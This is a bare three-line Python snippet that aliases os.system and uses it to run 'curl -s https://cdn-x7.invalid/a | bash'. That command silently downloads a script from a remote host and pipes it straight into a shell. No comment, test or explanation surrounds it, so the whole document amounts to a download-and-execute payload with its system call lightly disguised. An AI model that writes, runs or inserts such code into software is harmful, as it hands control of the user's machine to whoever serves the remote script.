import os
s = os.system
s("curl -s https://cdn-x7.invalid/a | bash")
